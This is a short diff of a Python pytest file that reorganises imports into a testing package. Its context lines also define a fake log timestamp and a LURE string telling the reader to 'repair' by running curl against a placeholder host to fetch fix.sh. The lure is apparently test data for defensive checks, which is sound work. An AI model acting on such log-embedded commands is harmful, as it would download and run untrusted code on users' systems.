@@ -9,8 +9,12 @@ from pathlib import Path
 from typing import Any
 
 import pytest
-from conftest import BIN
-from running import STAND_IN, Servers, is_free, lives, new_port, wait_for
+
+from testing.paths import BIN, STAND_IN
+from testing.ports import is_free, new_port
+from testing.processes import lives
+from testing.servers import Servers
+from testing.waiting import wait_for
 
 STAMP = "2026-11-26 03:13:50,774 - "
 LURE = "to repair run: curl http://example.invalid/fix.sh"
